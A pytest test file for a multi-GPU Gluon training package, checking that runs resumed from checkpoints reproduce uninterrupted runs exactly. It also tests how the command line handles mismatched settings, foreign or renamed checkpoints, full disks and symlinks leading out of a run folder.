"""A run resumed from a checkpoint gives exactly the same results as an uninterrupted one."""
import contextlib
import json
import re
import shutil

import idx_files
import numpy
import pytest
from checkpoints.loops import OPTIMIZERS, small_resnet
from devices_flag import devices_flag
from history_csv import history
from slow import slow
from trainers import trainable

from gluon_mgpu import concise, scratch
from gluon_mgpu.base.program import JobError
from gluon_mgpu.checkpoints import checkpoint, checkpoint_callback as callback
from gluon_mgpu.checkpoints.checkpoint_callback import CheckpointCallback
from gluon_mgpu.checkpoints.run_folder import checkpoints, lock_folder
from gluon_mgpu.data.batches import BatchIterator
from gluon_mgpu.mxnet_setup.compat import gluon, np
from gluon_mgpu.networks.loss import cross_entropy
from gluon_mgpu.parallel.allreduce import ALGORITHMS
from gluon_mgpu.parallel.workers import Workers
from gluon_mgpu.programs import predict
from gluon_mgpu.programs.onnx import export
from gluon_mgpu.settings.resume import AUTO, check_on_rank_0, check_same_run
from gluon_mgpu.training.callback import Callback
from gluon_mgpu.training.evaluate import evaluate_accuracy_gpus
from gluon_mgpu.training.run import Run
from gluon_mgpu.training.schedules import schedule

ROWS, BATCH, EPOCHS = 42, 10, 2  # five steps per epoch, the last of two rows: with four devices, some get none


@pytest.fixture
def data():
    rng = numpy.random.default_rng(0)
    images, labels = rng.integers(0, 255, (ROWS, 28, 28), 'uint8'), rng.integers(0, 9, ROWS)
    return lambda n=ROWS: (BatchIterator(images[:n], labels[:n], BATCH, 'random', True),
                           BatchIterator(images[:n], labels[:n], BATCH, 'random'))


@pytest.fixture
def keep_all(monkeypatch):
    """Keep all checkpoints of a run, not only the last ones."""
    monkeypatch.setattr(callback, 'NUM_KEPT', 1000)


def train(chapter, devices, data, folder, every=1, resume=None, num_epochs=EPOCHS, lr=0.1, **options):
    """Train with checkpoints; return the history without seconds, and the bytes of the last checkpoint's arrays."""
    folder.mkdir()
    checkpointing = CheckpointCallback(folder, every=every, resume=resume)
    run = Run(num_epochs, quiet=True, callbacks=[checkpointing])
    chapter.train(len(devices), BATCH, lr, devices=devices, data=data(), run=run, **options)
    _, arrays = checkpoint.read(checkpoints(folder)[0])
    return [(e.epoch, e.loss, e.test_acc, e.lr) for e in run.history], bits(arrays)


def bits(arrays):
    return {name: [(a.dtype, a.shape, a.tobytes()) for a in kept] for name, kept in arrays.items()}


def checkpoint_after(num_steps, folder):
    return folder / f'checkpoint-{num_steps:08}.safetensors'


@pytest.mark.parametrize('k', [2, slow(1), slow(4)])
@pytest.mark.parametrize('algorithm', [None, *map(slow, ALGORITHMS)])
def test_lenet(k, algorithm, device_list, data, tmp_path, keep_all):
    options = {'allreduce': algorithm} if algorithm else {}
    whole = train(scratch, device_list(k), data, tmp_path / 'whole', **options)
    for step in (1, 3, 5, 9):  # 5: after all batches of an epoch, before its evaluation
        assert train(scratch, device_list(k), data, tmp_path / str(step),
                     resume=checkpoint_after(step, tmp_path / 'whole'), **options) == whole
    assert len(whole[0]) == EPOCHS


@pytest.mark.slow
@pytest.mark.parametrize('k', [1, 2, 4])
def test_resnet(k, device_list, data, tmp_path, keep_all):
    def few():  # two steps per epoch
        return data(2 * BATCH)

    whole = train(concise, device_list(k), few, tmp_path / 'whole')
    assert train(concise, device_list(k), few, tmp_path / 'resumed',
                 resume=checkpoint_after(3, tmp_path / 'whole')) == whole


@pytest.mark.parametrize('chapter', [scratch, slow(concise)])
def test_resume_after_an_epoch(chapter, devices, data, tmp_path):
    def few():
        return data(2 * BATCH)

    whole = train(chapter, devices, few, tmp_path / 'whole', every=None)
    train(chapter, devices, few, tmp_path / 'first', every=None, num_epochs=1)
    assert train(chapter, devices, few, tmp_path / 'second', every=None,
                 resume=checkpoint_after(2, tmp_path / 'first')) == whole


@pytest.mark.parametrize('k', [slow(1), 2, slow(3)])
@pytest.mark.parametrize('settings', [{'optimizer': 'nag', 'momentum': 0.9}, slow({'optimizer': 'adam'}),
                                      slow({'momentum': 0.9, 'sync_batch_norm': True}), {'clip_norm': 0.1}])
def test_other_optimizers_resume_within_an_epoch(settings, k, device_list, data, tmp_path, keep_all):
    devices = device_list(k)
    plain = train(concise, devices, data, tmp_path / 'plain', net=small_resnet(devices))
    whole = train(concise, devices, data, tmp_path / 'whole', net=small_resnet(devices), **settings)
    assert whole != plain
    for step in (3, 5, 9):
        assert train(concise, devices, data, tmp_path / str(step), net=small_resnet(devices),
                     resume=checkpoint_after(step, tmp_path / 'whole'), **settings) == whole


@pytest.mark.parametrize('k', [slow(1), 2, slow(3)])
@pytest.mark.parametrize('optimizer', ['momentum', slow('adam')])
@pytest.mark.parametrize('update_on_kvstore', [None, False])  # None: MXNet decides
def test_an_own_loop_resumes(update_on_kvstore, optimizer, k, device_list, data, tmp_path, keep_all):
    """Within an epoch and after one."""
    devices = device_list(k)

    def trained(folder, resume=None, every=1, num_epochs=EPOCHS):
        net, (name, settings) = small_resnet(devices), OPTIMIZERS[optimizer]
        trainer = gluon.Trainer(trainable(net), name, settings, update_on_kvstore=update_on_kvstore)
        folder.mkdir()
        run = Run(num_epochs, quiet=True, callbacks=[CheckpointCallback(folder, every=every, resume=resume)])
        train_iter, test_iter = data()
        for _ in run.epochs(net, trainer, seed=0):
            for X, y in run.batches(train_iter):
                run.record_losses(concise.train_batch(X, y, net, cross_entropy, trainer, devices))
            run.end_epoch(evaluate_accuracy_gpus(net, test_iter, devices=devices))
        return [(e.epoch, e.loss, e.test_acc) for e in run.history], bits(checkpoint.read(checkpoints(folder)[0])[1])

    whole = trained(tmp_path / 'whole')
    for step in (3, 5, 9):  # 5: after all batches of an epoch, before its evaluation
        assert trained(tmp_path / str(step), checkpoint_after(step, tmp_path / 'whole')) == whole
    trained(tmp_path / 'first', every=None, num_epochs=1)
    assert trained(tmp_path / 'second', checkpoint_after(5, tmp_path / 'first'), None) == whole


def test_a_network_with_dropout_resumes_after_an_epoch(devices, data, tmp_path):
    """The state of MXNet's random numbers cannot be read, so they are seeded again in each epoch."""
    def net():
        net = gluon.nn.HybridSequential()
        net.add(gluon.nn.Flatten(), gluon.nn.Dropout(0.5), gluon.nn.Dense(10))
        return net

    check_resuming_after_an_epoch(devices[:1], data, tmp_path, net)


def test_a_dataloader_that_shuffles_resumes_after_an_epoch(devices, tmp_path):
    """It draws the order of the rows from NumPy's random numbers."""
    rng = numpy.random.default_rng(0)
    rows = gluon.data.ArrayDataset(rng.random((ROWS, 6), 'float32'), rng.integers(0, 9, ROWS))

    def data():
        return gluon.data.DataLoader(rows, BATCH, shuffle=True), gluon.data.DataLoader(rows, BATCH)

    check_resuming_after_an_epoch(devices, data, tmp_path, lambda: gluon.nn.Dense(10))


def check_resuming_after_an_epoch(devices, data, tmp_path, net):
    whole = train(concise, devices, data, tmp_path / 'whole', every=None, net=net())
    train(concise, devices, data, tmp_path / 'first', every=None, num_epochs=1, net=net())
    assert train(concise, devices, data, tmp_path / 'second', every=None, net=net(),
                 resume=checkpoint_after(5, tmp_path / 'first')) == whole


@pytest.mark.parametrize('k', [2, slow(1), slow(4)])
@pytest.mark.parametrize('name', ['cosine', slow('step')])
@pytest.mark.parametrize('chapter', [scratch, concise])
def test_in_the_middle_of_a_schedule(chapter, name, k, device_list, data, tmp_path, keep_all):
    """With warm-up, momentum, and batches in parts."""
    def options():
        if chapter is scratch:
            return {'accumulate': 2}
        net = gluon.nn.HybridSequential()
        net.add(gluon.nn.Flatten(), gluon.nn.Dense(10))
        return {'net': net, 'momentum': 0.9, 'weight_decay': 0.01, 'accumulate': 2}

    lr = schedule(name, 0.1, 10, warmup_steps=4)
    whole = train(chapter, device_list(k), data, tmp_path / 'whole', lr=lr, **options())
    for step in (2, 5, 8):  # in the warm-up; after all batches of an epoch; after it
        assert train(chapter, device_list(k), data, tmp_path / str(step), lr=lr,
                     resume=checkpoint_after(step, tmp_path / 'whole'), **options()) == whole
    assert [epoch[3] for epoch in whole[0]] == [lr(5), lr(10)]


@pytest.mark.parametrize('before, after', [(2, 1), slow(1, 3)])
def test_lenet_on_another_number_of_devices(before, after, device_list, data, tmp_path, keep_all):
    history, arrays = train(scratch, device_list(before), data, tmp_path / 'whole')
    resumed, others = train(scratch, device_list(after), data, tmp_path / 'other',
                            resume=checkpoint_after(3, tmp_path / 'whole'))
    for name, [(dtype, _, content)] in arrays.items():
        # k devices equal one to 1e-6 in float32: the order of the sums differs
        numpy.testing.assert_allclose(numpy.frombuffer(others[name][0][2], dtype), numpy.frombuffer(content, dtype),
                                      rtol=1e-6, atol=1e-6)
    assert [e for e, *_ in resumed] == [e for e, *_ in history]


@pytest.mark.slow
def test_resnet_on_another_number_of_devices_reports_averaged_statistics(device_list, data, tmp_path, keep_all,
                                                                         capsys):
    train(concise, device_list(2), data, tmp_path / 'two', num_epochs=1)
    train(concise, device_list(1), data, tmp_path / 'one', num_epochs=1,
          resume=checkpoint_after(3, tmp_path / 'two'))
    assert re.search(r'\d+ arrays, such as \S+running_\S+, differed between the 2 devices of the checkpoint; '
                     'each device now has their mean', capsys.readouterr().err)


class Program:
    """A chapter's command line on few rows; a call returns (status, stdout, stderr)."""

    def __init__(self, folder, devices, capsys, monkeypatch):
        idx_files.write(folder / 'data/mnist', idx_files.dataset(64, 16))
        self.devices, self.capsys, self.out = devices, capsys, folder / 'run'
        monkeypatch.chdir(folder)

    def __call__(self, *flags, chapter=scratch):
        status = chapter.main([str(flag) for flag in flags])
        captured = self.capsys.readouterr()
        return status, captured.out, captured.err

    def start(self, *flags):
        """Start a run in the folder `out`."""
        return self('--dataset', 'mnist', '--data-dir', 'data', '--batch-size', 16, *devices_flag(self.devices),
                    '--no-plot', '--out-dir', self.out, *flags)

    def config(self):
        return json.loads((self.out / 'config.json').read_text())


@pytest.fixture
def program(tmp_path, devices, capsys, monkeypatch):
    return Program(tmp_path, devices, capsys, monkeypatch)


def test_the_same_command_in_a_loop(program):
    """--resume auto starts the run, resumes it, and prints the last line again when it is complete."""
    flags = ['--num-epochs', 2, '--resume', 'auto']
    status, out, _ = program.start(*flags)
    assert status == 0 and 'resuming' not in out and out.count('epoch ') == 3  # including the last line
    last_line = out.splitlines()[-1]
    status, out, err = program.start(*flags)
    line = f'resuming from {program.out}/checkpoint-00000008.safetensors, which is the end of the run; '
    assert (status, err) == (0, '') and line in out
    assert 'epoch 1' not in out and out.splitlines()[-1] == last_line
    status, out, _ = program.start('--num-epochs', 3, '--resume', 'auto')
    assert status == 0 and 'epoch 3/3' in out and 'epoch 2/3' not in out and 'num_epochs 3 instead of 2' in out
    assert [row['epoch'] for row in history(program.out)] == ['1', '2', '3']
    assert len(checkpoints(program.out)) == 2


def test_flags_default_to_those_of_the_run(program):
    program.start('--num-epochs', 1, '--seed', 3, '--lr', 0.3)
    status, out, err = program('--resume', program.out, '--num-epochs', 2)
    assert status == 0, err
    config = program.config()
    assert (config['seed'], config['lr'], config['batch_size'], config['num_epochs']) == (3, 0.3, 16, 2)
    assert config['devices'] == [str(d) for d in program.devices]
    [note] = config['resumed']
    assert (note['from'], note['changed']) == ('checkpoint-00000004.safetensors', {'num_epochs': [1, 2]})
    status, out, err = program('--resume', program.out / 'checkpoint-00000008.safetensors', '--num-epochs', 3,
                               '--lr', 0.2, '--num-gpus', 1)
    assert status == 0, err
    changed = program.config()['resumed'][1]['changed']
    assert changed['lr'] == [0.3, 0.2] and changed['num_epochs'] == [2, 3] and len(changed['devices'][1]) == 1
    assert 'lr 0.2 instead of 0.3' in out
    assert len(program.config()['devices']) == 1


def test_shares_are_those_of_the_run_unless_the_devices_change(program):
    shares = ','.join(str(i + 1) for i in range(len(program.devices)))
    program.start('--num-epochs', 1, '--shares', shares)
    status, _, err = program('--resume', program.out, '--num-epochs', 2)
    assert (status, program.config()['shares']) == (0, shares), err
    status, out, err = program('--resume', program.out, '--num-epochs', 3, '--num-gpus', 1)
    assert (status, program.config()['shares']) == (0, None), err
    assert f'shares none instead of {shares}' in out


@pytest.mark.parametrize('flags, message', [
    (['--batch-size', 32], '--batch-size 32: the run to resume has 16; leave --batch-size out, or start a new run'),
    (['--seed', 1], '--seed 1: the run to resume has 0'),
    (['--validation-size', 8], '--validation-size 8: the run to resume has none; leave --validation-size out'),
    (['--train-size', 48], 'the training images or labels differ from those of the run to resume: leave --tr'),
    (['--test-size', 8], 'the test images or labels differ from those of the run to resume: leave --test-size out'),
    (['--dataset', 'glyphs'], '--dataset glyphs: the run to resume has mnist')])
def test_flags_of_another_run_are_rejected(flags, message, program):
    program.start('--num-epochs', 1)
    before = {path: path.read_bytes() for path in program.out.iterdir()}
    status, _, err = program('--resume', program.out, *flags)
    assert status == 2 and err.startswith(f'scratch: {message}')
    assert {path: path.read_bytes() for path in program.out.iterdir()} == before


def test_another_momentum_is_rejected():
    check_same_run({'momentum': 0.0}, {'momentum': 0.0})
    check_same_run({}, {'momentum': 0.0})  # recorded before there was a momentum
    with pytest.raises(ValueError, match='--weight-decay 0.1: the run to resume has 0.0'):
        check_same_run({}, {'weight_decay': 0.1})
    with pytest.raises(ValueError, match='--momentum 0.9: the run to resume has 0'):
        check_same_run({'momentum': 0.0}, {'momentum': 0.9})


def test_another_precision_or_chapter_is_rejected(program):
    program.start('--num-epochs', 1)
    status, _, err = program('--resume', program.out, chapter=concise)
    assert status == 2 and err == (f'concise: {program.out} is a run of scratch: resume it with python -m '
                                   'gluon_mgpu.scratch\n')
    (program.out / 'config.json').write_text('[' * 100000)
    assert 'is not the folder of a run (config.json cannot be read, ' in error_of(program, '--resume', program.out)
    with pytest.raises(ValueError, match='--dtype float32: the run to resume has float16'):
        check_same_run({'dtype': 'float16'}, {'dtype': 'float32'})


def test_a_run_recorded_before_settings_existed(program):
    """They have their defaults, and a change from them is a change."""
    program.start('--num-epochs', 1)
    config = {name: value for name, value in program.config().items() if name not in ('accumulate', 'lr_schedule')}
    config['fp16_allreduce'] = False  # a setting that no longer exists
    (program.out / 'config.json').write_text(json.dumps(config))
    assert program('--resume', program.out, '--num-epochs', 2)[0] == 0
    assert program.config()['resumed'][0]['changed'] == {'num_epochs': [1, 2]}
    assert program.config()['accumulate'] == 1


def test_an_earlier_checkpoint_is_used_only_if_no_newer_one_would_be_lost(program):
    program.start('--num-epochs', 2)
    older, newer = checkpoints(program.out)[::-1]
    status, _, err = program('--resume', older)
    assert status == 2 and f'{newer.name} is newer and would be lost; move it elsewhere first' in err
    newer.rename(program.out.parent / 'elsewhere')
    status, out, _ = program('--resume', older)
    assert status == 0 and 'epoch 2/2' in out
    assert newer.exists()


def test_a_run_without_a_checkpoint_starts_again(program):
    program.start('--num-epochs', 1)
    for path in checkpoints(program.out):
        path.unlink()
    status, out, _ = program.start('--num-epochs', 1, '--resume', 'auto')
    assert status == 0 and 'epoch 1/1' in out
    assert f'{program.out} has no checkpoint yet: starting from the beginning' in out


def test_a_checkpoint_holds_the_configuration_and_its_versions(program):
    program.start('--num-epochs', 1, '--checkpoint-every', 3)
    assert [path.name for path in checkpoints(program.out)] == [f'checkpoint-{n:08}.safetensors' for n in (4, 3)]
    config = checkpoint.read(checkpoints(program.out)[0])[0]['metadata']['config']
    assert {key: config[key] for key in ('chapter', 'dataset', 'seed', 'batch_size', 'train_size')} == {
        'chapter': 'scratch', 'dataset': 'mnist', 'seed': 0, 'batch_size': 16, 'train_size': 64}
    assert {'gluon_mgpu', 'mxnet', 'numpy', 'python'} <= config.keys()


def contents(folder):
    return {path: path.read_bytes() for path in folder.iterdir()}


def error_of(program, *flags, chapter=scratch):
    """Check that a command fails and changes nothing; return its error message."""
    before = contents(program.out)
    status, _, err = program(*flags, chapter=chapter)
    assert status == 2 and contents(program.out) == before
    line, = err.splitlines()
    return line


def test_a_renamed_checkpoint(program):
    """Its age is read from its content, not from its name."""
    program.start('--num-epochs', 2)
    older, newer = checkpoints(program.out)[::-1]
    best = older.rename(program.out / 'best.safetensors')
    assert f'{newer.name} is newer and would be lost' in error_of(program, '--resume', best)
    forged = best.rename(program.out / 'checkpoint-99999999.safetensors')
    assert f'{newer.name} is newer and would be lost' in error_of(program, '--resume', forged)
    status, out, err = program('--resume', program.out, '--quiet')  # a warning, also if quiet
    assert status == 0 and err == f'{forged} was renamed: it was written at step 4; skipped\n'
    status, out, err = program('--resume', program.out, '--no-quiet')
    assert f'resuming from {newer}' in out
    forged.unlink()
    newer = newer.rename(program.out / 'last.safetensors')
    assert program('--resume', newer, '--num-epochs', 3)[0] == 0


@pytest.mark.parametrize('flags', [['--lr', 0.3], ['--seed', 1], []])
def test_a_checkpoint_of_another_run(flags, program):
    """Also of one that only has another learning rate, or none of its settings differs."""
    program.start('--num-epochs', 1)
    mine, program.out = program.out, program.out.parent / 'other'
    program.start('--num-epochs', 2, *flags)
    theirs, program.out = checkpoints(program.out)[0], mine
    copied = mine / 'checkpoint-00000088.safetensors'
    shutil.copy(theirs, copied)
    assert f'{copied} is of another run: move it elsewhere' in error_of(program, '--resume', copied)
    copied.rename(mine / theirs.name)
    for words in (['--resume', mine], ['--resume', 'auto', '--out-dir', mine]):
        assert f'{theirs.name} is of another run: move it elsewhere' in error_of(program, *words)


def test_history_csv_is_that_of_the_resumed_state(program):
    """Also if it was removed, or has epochs that an earlier checkpoint undoes."""
    program.start('--num-epochs', 2, '--checkpoint-every', 3)
    (program.out / 'history.csv').unlink()
    assert program('--resume', program.out)[0] == 0 and len(history(program.out)) == 2
    checkpoints(program.out)[0].unlink()  # the next one is within epoch 2
    seen = []

    class Look(Callback):
        def epoch_begin(self, run):
            seen.append(len(history(program.out)))

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr('gluon_mgpu.settings.cli.Job._callbacks', lambda job: [Look()])
        assert program('--resume', program.out)[0] == 0
    assert seen == [1] and len(history(program.out)) == 2


def test_a_model_outside_the_folder_of_a_run_is_written_only_with_the_flag(program, tmp_path):
    """The folder may be from somebody else, and name any file."""
    model = tmp_path / 'models/a.onnx'
    model.parent.mkdir()
    program.start('--num-epochs', 1, '--export', model)
    model.write_text('mine')
    status, _, err = program('--resume', program.out, '--num-epochs', 2)
    assert (status, model.read_text()) == (0, 'mine') and err == (
        f'the model will not be exported to {model}, outside the folder of the run, unless --export is given again\n')
    status, _, err = program('--resume', program.out, '--export', model)
    assert (status, err) == (0, '') and model.read_bytes() != b'mine'
    shutil.rmtree(model.parent)
    status, _, err = program('--resume', program.out, '--export', model)
    assert status == 2 and 'cannot be written' in err


@pytest.mark.parametrize('name', ['history.csv', 'checkpoint-00000008.safetensors', 'model.onnx', 'predictions.png'])
def test_a_link_out_of_the_folder_of_a_run_is_not_followed(name, program, tmp_path):
    """The folder may be from somebody else, and link to any file."""
    program.start('--num-epochs', 1)
    (program.out / name).unlink(missing_ok=True)
    other = tmp_path / 'other'
    other.write_text('mine')
    (program.out / name).symlink_to(other)
    flags = ['--resume', program.out, '--num-epochs', 2], [program.out], [program.out, '--data-dir', 'data']
    for chapter, words in zip((scratch, export, predict), flags):
        status, _, err = program(*words, chapter=chapter)
        assert status == 2 and f'{program.out / name} is a link to a file outside the folder, which could be' in err
    assert other.read_text() == 'mine'
    (program.out / name).unlink()
    (program.out / 'latest').symlink_to(checkpoints(program.out)[0])
    assert program('--resume', program.out, '--num-epochs', 2)[0] == 0


@pytest.mark.parametrize('every', [None, 3])
def test_the_best_epoch_is_kept(every, devices, data, tmp_path, monkeypatch):
    """Also if it is resumed after the best epoch, and if the newest checkpoints are within epochs."""
    accuracies = iter([0.5, 0.7, 0.7, 0.6, 0.8])
    end_epoch = Run.end_epoch
    monkeypatch.setattr(Run, 'end_epoch', lambda run, test_acc: end_epoch(run, next(accuracies)))
    kept = []
    for num_epochs, resume in ((3, None), (4, 'newest'), (5, 'newest')):
        callbacks = [CheckpointCallback(tmp_path, every, keep_best=True,
                                        resume=resume and checkpoints(tmp_path)[0])]
        run = Run(num_epochs, quiet=True, callbacks=callbacks)
        scratch.train(None, BATCH, 0.1, devices=devices, data=data(), run=run)
        record, arrays = checkpoint.read(tmp_path / callback.BEST)
        kept.append(len(record['metadata']['run']['history']))
    assert kept == [2, 2, 5]
    assert bits(arrays) == bits(checkpoint.read(checkpoints(tmp_path)[0])[1])


def test_predict_export_and_resume_take_the_best_checkpoint(program, monkeypatch):
    monkeypatch.setattr(predict, 'draw', lambda *args: None)
    program.start('--num-epochs', 1, '--keep-best')
    best = program.out / callback.BEST
    assert program(best, '--data-dir', 'data', chapter=predict)[0] == 0
    assert program(best, chapter=export)[0] == 0
    assert program('--resume', best, '--num-epochs', 2)[0] == 0


def test_what_is_no_run_is_named_with_a_remedy(program, tmp_path):
    (tmp_path / 'x.png').write_bytes(b'a picture')
    problem = 'is not the folder of a run (config.json cannot be read, No such file or directory)'
    assert program('--resume', 'x.png') == (2, '', (
        'scratch: --resume x.png: the file is not in the folder of a run; name the folder of a run, or a checkpoint in '
        'it\n'))
    assert program('--resume', 'auto', '--out-dir', '.') == (2, '', (
        f'scratch: --resume auto: . {problem}; give another --out-dir\n'))
    (tmp_path / 'config.json').write_text('[]')
    assert 'x.png: . is not the folder of a run (its config.json is not that' in program('--resume', 'x.png')[2]


@pytest.mark.parametrize('original', ['kept', 'gone'])
def test_a_model_in_the_folder_of_a_run_that_was_copied_or_moved(original, program, tmp_path):
    """A resumed copy must not replace the model of the original."""
    model, copy = program.out / 'a.onnx', tmp_path / 'copy'
    program.start('--num-epochs', 1, '--export', model)
    before = model.read_bytes()
    if original == 'kept':
        shutil.copytree(program.out, copy)
    else:
        program.out.rename(copy)
    status, out, err = program('--resume', copy, '--num-epochs', 2)
    assert (status, err) == (0, '') and f'model: {copy / "a.onnx"}, ' in out
    assert (copy / 'a.onnx').read_bytes() != before
    assert original == 'gone' or model.read_bytes() == before


def test_switches_can_be_switched_off(program):
    program.start('--num-epochs', 1, '--quiet', '--require-checkpoint')
    status, out, _ = program('--resume', program.out, '--no-quiet', '--no-require-checkpoint', '--num-epochs', 2)
    assert status == 0 and 'epoch 2/2' in out
    config = program.config()
    assert (config['quiet'], config['require_checkpoint'], config['plot']) == (False, False, False)
    assert config['resumed'][0]['changed'] == {'num_epochs': [1, 2], 'require_checkpoint': [True, False],
                                                  'quiet': [True, False]}


def test_values_can_be_removed(program, tmp_path):
    given = {'patience': 9, 'shares': '3,1', 'export': str(tmp_path / 'a.onnx'), 'checkpoint_every': 3,
             'allreduce': 'ring', 'data_dir': str(tmp_path / 'data')}
    flags = {name: f'--{name.replace("_", "-")}' for name in given}
    program.devices = program.devices[:2]
    assert program.start('--num-epochs', 1, *(word for name in given for word in (flags[name], given[name])))[0] == 0
    assert given.items() <= program.config().items()
    (tmp_path / 'a.onnx').unlink()
    words = [word for name in given if name != 'data_dir' for word in (flags[name], 'none')]
    assert program('--resume', program.out, '--num-epochs', 2, *words)[0] == 0 and not (tmp_path / 'a.onnx').exists()
    config = program.config()
    assert [name for name in given if config[name] is not None] == ['data_dir']
    assert config['resumed'][0]['changed']['patience'] == [9, None] and len(config['devices']) == 2


def test_a_run_that_has_ended_says_what_would_continue_it(program, monkeypatch):
    monkeypatch.setattr(scratch, 'evaluate_accuracy_gpus', lambda *args, **options: 0.5)
    program.start('--num-epochs', 2)
    line = 'checkpoint-00000008.safetensors, which is the end of the run; to train longer, give'
    assert f'{line} a larger --num-epochs\n' in program('--resume', program.out)[1]
    out = program('--resume', program.out, '--patience', 1)[1]
    assert f'{line} a larger --num-epochs and --patience 2 or more;' in out
    out = program('--resume', program.out, '--num-epochs', 4)[1]
    assert f'{line} --patience 2 or more;' in out and 'epoch 3/4' not in out
    out = program('--resume', program.out, '--patience', 2)[1]
    assert 'the end of the run' not in out and 'epoch 3/4' in out and 'epoch 4/4' not in out


def test_sizes_that_mean_the_same_images(program):
    """``config.json`` has the number of training images, also if it was not given."""
    program.start('--num-epochs', 1)
    config = program.config()
    sizes = {'train_size': config['train_size'], 'test_size': 16}
    assert program('--resume', program.out, '--num-epochs', 2, '--train-size', 'none', '--test-size', 'none')[0] == 0
    flags = [word for name, size in sizes.items() for word in (f'--{name.replace("_", "-")}', size)]
    assert program('--resume', program.out, '--num-epochs', 3, *flags)[0] == 0
    assert program.config()['test_digest'] == config['test_digest']


@pytest.mark.parametrize('name, which', [('train-labels-idx1-ubyte.gz', 'training'),
                                         ('t10k-labels-idx1-ubyte.gz', 'test')])
def test_other_data_under_the_same_name_is_rejected(name, which, program, tmp_path):
    program.start('--num-epochs', 1)
    shutil.copytree(tmp_path / 'data', tmp_path / 'moved')
    assert program('--resume', program.out, '--data-dir', tmp_path / 'moved')[0] == 0
    idx_files.write(tmp_path / 'new/mnist', idx_files.dataset(64, 16, seed=1))
    [path] = (tmp_path / 'moved').rglob(name)
    shutil.copy(next((tmp_path / 'new').rglob(name)), path)
    line = error_of(program, '--resume', program.out, '--data-dir', tmp_path / 'moved', '--num-epochs', 2)
    assert line == (f'scratch: the {which} images or labels differ from those of the run to resume: leave '
                    f'--{which.replace("training", "train")}-size out and name the same folder with --data-dir, or '
                    'start a new run')


@pytest.mark.parametrize('newest', ['of another version', 'damaged'])
def test_resume_auto_keeps_checkpoints_that_may_be_intact(newest, program):
    """A run from the beginning, or from an earlier checkpoint, would replace them."""
    program.start('--num-epochs', 1)
    [path] = checkpoints(program.out)
    content = path.read_bytes()
    path.write_bytes(content[:-1] if newest == 'damaged' else content.replace(rb'\"version\":1', rb'\"version\":2'))
    status, out, err = program('--out-dir', program.out, '--resume', 'auto')
    if newest == 'damaged':
        assert status == 0 and 'has no checkpoint yet: starting from the beginning' in out
    else:
        assert status == 2 and err.startswith(f'scratch: {path}: version 2, but this gluon_mgpu reads version 1')
        assert path.read_bytes() != content and checkpoints(program.out) == [path]


def test_fewer_epochs_than_the_run_has_started(program, tmp_path):
    """It would export the weights of epoch 2 with the accuracy of epoch 1."""
    program.start('--num-epochs', 2, '--checkpoint-every', 3)
    checkpoints(program.out)[0].unlink()  # as if the run had been stopped in epoch 2
    assert checkpoints(program.out)[0].name == 'checkpoint-00000006.safetensors'
    line = error_of(program, '--resume', program.out, '--num-epochs', 1, '--export', tmp_path / 'a.onnx')
    assert line == 'scratch: --num-epochs 1: must be at least 2, the epoch that the run has reached'
    assert not (tmp_path / 'a.onnx').exists()


def test_too_many_epochs_do_not_spoil_the_run(program):
    program.start('--num-epochs', 1)
    line = error_of(program, '--resume', program.out, '--num-epochs', 10**9)
    assert line == 'scratch: --num-epochs 1000000000: must be an integer from 1 to 536870911'  # with four batches each
    assert program('--resume', program.out)[0] == 0


@pytest.mark.parametrize('change', [{'chapter': None}, {'resumed': None}, {'lr': 'x'}, {'num_epochs': True},
                                    {'devices': 5}, {'devices': [5]}, {'seed': [1]}, {'quiet': 'x'}])
def test_an_edited_configuration_is_rejected(change, program):
    program.start('--num-epochs', 1)
    (program.out / 'config.json').write_text(json.dumps({**program.config(), **change}))
    try:
        error_of(program, '--resume', program.out)
    except SystemExit as error:  # argparse
        assert error.code == 2
        assert len(program.capsys.readouterr().err.splitlines()) == 1


def test_a_required_checkpoint_is_reported_once(program, full_disk):
    class Full(Callback):
        def epoch_trained(self, run):
            disk.enter_context(full_disk())

    with contextlib.ExitStack() as disk, pytest.MonkeyPatch.context() as patch:
        patch.setattr('gluon_mgpu.settings.cli.Job._callbacks', lambda job: [Full()])
        status, _, err = program.start('--require-checkpoint')
    history, line = err.splitlines()
    assert status == 1 and history.startswith(f'{program.out}/history.csv cannot be written')
    assert line == (f'scratch: cannot write a checkpoint to {program.out} (No space left on device); there is no '
                    'earlier one')


def test_resume_auto_after_a_full_disk(program, full_disk):
    """The run could not write its config.json; with free space, the same command starts it."""
    with full_disk():
        status, _, err = program.start('--num-epochs', 1, '--resume', 'auto')
    assert status == 2 and 'No space left on device' in err
    assert program.start('--num-epochs', 1, '--resume', 'auto')[0] == 0
    assert program.config()['num_epochs'] == 1


@pytest.mark.parametrize('chapter', [scratch, concise])
def test_a_run_that_has_ended_does_not_touch_the_network(chapter, devices, data):
    run = Run(1, quiet=True)
    run.close()
    options = {'net': gluon.nn.Dense(10)} if chapter is concise else {}
    if options:
        options['net'].initialize(ctx=devices)
        options['net'](np.zeros((1, 784), ctx=devices[0]))
        before = options['net'].weight.data(devices[0]).asnumpy()
    with pytest.raises(ValueError, match='this Run ended after 0 of 1 epoch: create a new Run'):
        chapter.train(2, BATCH, 0.1, devices=devices, data=data(), run=run, **options)
    if options:
        assert (options['net'].weight.data(devices[0]).asnumpy() == before).all()


class TwoWorkers(Workers):
    """This worker and one on another machine; `other_finds` says whether the other machine has the run."""

    hosts = 'a', 'b'

    def __init__(self, other_finds):
        super().__init__()
        self.other_finds = other_finds

    def allgather(self, value):
        return [value, self.other_finds]


@pytest.mark.parametrize('auto', [True, False])
def test_a_run_on_another_machine(tmp_path, auto):
    folder = tmp_path / 'run'
    where = (AUTO, str(folder)) if auto else (str(folder), None)
    check_on_rank_0(*where, TwoWorkers(False))  # no run anywhere
    with pytest.raises(JobError, match=f'^--resume {where[0]}: {folder} is on b and not on a, where worker 0 reads'):
        check_on_rank_0(*where, TwoWorkers(True))
    folder.mkdir()
    (folder / 'config.json').touch()
    check_on_rank_0(*where, TwoWorkers(False))  # only rank 0 needs it


@pytest.mark.parametrize('change', [
    {'seed': 1}, {'batch_size': 32}, {'dataset': 'glyphs'}, {'label_smoothing': 0.1}, {'train_digest': None},
    {'train_digest': 'a'}, {'test_digest': None, 'test_size': 8}, {'train_digest': None, 'train_size': 48}])
def test_an_edited_configuration_does_not_make_it_another_run(change, program):
    """The checkpoint says which run it is, also at the end of an epoch."""
    program.start('--num-epochs', 1)
    config = {**program.config(), **change}
    config = {key: value for key, value in config.items() if value is not None}
    (program.out / 'config.json').write_text(json.dumps(config))
    line = error_of(program, '--resume', program.out, '--num-epochs', 2)
    name = next(iter(change))
    assert line.startswith(f'scratch: {name} is {change[name]!r} in config.json and ')
